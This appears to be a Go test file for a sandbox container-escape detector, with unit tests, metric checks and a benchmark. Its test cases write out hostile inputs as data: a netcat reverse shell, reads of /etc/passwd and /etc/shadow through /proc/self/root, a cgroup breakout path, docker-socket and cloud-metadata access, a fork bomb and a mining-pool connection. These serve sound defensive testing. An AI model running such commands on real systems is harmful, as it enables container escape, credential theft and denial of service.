package monitor

import (
	"testing"

	"github.com/prometheus/client_golang/prometheus/testutil"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		code         string
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
		{"docker socket", `cat /var/run/docker.sock`, 1, "host_mount_access"},
		{"dirty_cow", `exploit = dirty_cow_payload()`, 1, "kernel_exploit"},
		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, 1, "metadata_service"},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
		{"cap_sys_admin", `capsh --caps="cap_sys_admin+eip"`, 1, "capability_abuse"},
		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
		{"fork bomb", `:(){ :|:& };:`, 1, "fork_bomb"},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
		{"ctypes", `import ctypes`, 1, "ctypes_import"},
		{"clean code", `print("hello world")`, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeCode(tt.code)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestAnalyzeCodeFor_Blocking(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name        string
		code        string
		language    string
		wantBlocked bool
		wantPattern string
	}{
		{"import ctypes", "import ctypes\nctypes.CDLL(None)", "python", true, "ctypes_import"},
		{"from ctypes import", "from ctypes import CDLL", "python", true, "ctypes_import"},
		{"ctypes any language", "// import ctypes", "javascript", true, "ctypes_import"},
		{"ctypes upper case", "IMPORT CTYPES", "python", true, "ctypes_import"},
		{"import imp", "import imp", "python", true, "imp_import"},
		{"import importlib is fine", "import importlib", "python", false, ""},
		{"dunder import", "os = __import__('os')", "python", true, "dunder_import_call"},
		{"builtin compile", "code = compile('1', '<s>', 'eval')", "python", true, "compile_call"},
		{"re.compile allowed", "import re\npat = re.compile(r'x')", "python", false, ""},
		{"compile in javascript", "const compile = () => 1; compile()", "javascript", false, ""},
		{"ptrace only logged", "ptrace(1)", "cpp", false, ""},
		{"clean", "print('hello')", "python", false, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			det, blocked := FirstBlocking(d.AnalyzeCodeFor(tt.code, tt.language))
			if blocked != tt.wantBlocked {
				t.Fatalf("blocked = %v, want %v", blocked, tt.wantBlocked)
			}
			if tt.wantPattern != "" && det.Pattern != tt.wantPattern {
				t.Errorf("pattern = %q, want %q", det.Pattern, tt.wantPattern)
			}
		})
	}
}

func TestAnalyzeCode_ReportsLine(t *testing.T) {
	dets := NewEscapeDetector().AnalyzeCodeFor("x = 1\n\nimport ctypes\n", "python")
	det, ok := FirstBlocking(dets)
	if !ok {
		t.Fatal("expected a blocking detection")
	}
	if det.Line != 3 {
		t.Errorf("Line = %d, want 3", det.Line)
	}
	if det.Detail != "Import of 'ctypes' module is not allowed" {
		t.Errorf("Detail = %q", det.Detail)
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		output       string
		wantMinCount int
		wantSeverity string
	}{
		{"root access", "root:x:0:0:root:/root:/bin/bash", 1, "critical"},
		{"docker socket", "found: /var/run/docker.sock", 1, "critical"},
		{"containerd socket", "socket: containerd.sock listening", 1, "critical"},
		{"clean output", "hello world\n42\n", 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeOutput(tt.output)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantSeverity != "" && len(dets) > 0 {
				if dets[0].Severity != tt.wantSeverity {
					t.Errorf("severity = %q, want %q", dets[0].Severity, tt.wantSeverity)
				}
			}
		})
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}

func TestMetrics_Record(t *testing.T) {
	m := NewMetrics()

	m.RecordExecution("python", "docker", "success", 0.2)
	m.RecordSecurityEvent("ctypes_import")
	m.RecordHook("on_run", "completed", 1.5)
	m.RecordSend("ghost_response", true)
	m.RecordSend("ghost_response", false)

	if got := testutil.ToFloat64(m.ExecutionsTotal.WithLabelValues("python", "success")); got != 1 {
		t.Errorf("executions_total = %v, want 1", got)
	}
	if got := testutil.ToFloat64(m.SecurityEvents.WithLabelValues("ctypes_import")); got != 1 {
		t.Errorf("security_events_total = %v, want 1", got)
	}
	if got := testutil.ToFloat64(m.HookEvents.WithLabelValues("on_run", "completed")); got != 1 {
		t.Errorf("hooks events_total = %v, want 1", got)
	}
	if got := testutil.ToFloat64(m.MessagesSent.WithLabelValues("ghost_response")); got != 1 {
		t.Errorf("messages_sent_total = %v, want 1", got)
	}
	if got := testutil.ToFloat64(m.MessageSendFailures.WithLabelValues("ghost_response")); got != 1 {
		t.Errorf("send_failures_total = %v, want 1", got)
	}
}

func BenchmarkEscapeDetector(b *testing.B) {
	d := NewEscapeDetector()

	codes := []struct {
		name string
		code string
	}{
		{"benign", "print('hello world')"},
		{"suspicious", "cat /proc/self/root/etc/shadow"},
		{"complex", `
import os, sys, ctypes
os.system('cat /proc/self/ns/mnt')
ctypes.CDLL(None).init_module(0, 0, 0)
import urllib.request
urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')
`},
	}

	for _, tc := range codes {
		b.Run(tc.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				d.AnalyzeCodeFor(tc.code, "python")
			}
		})
	}
}
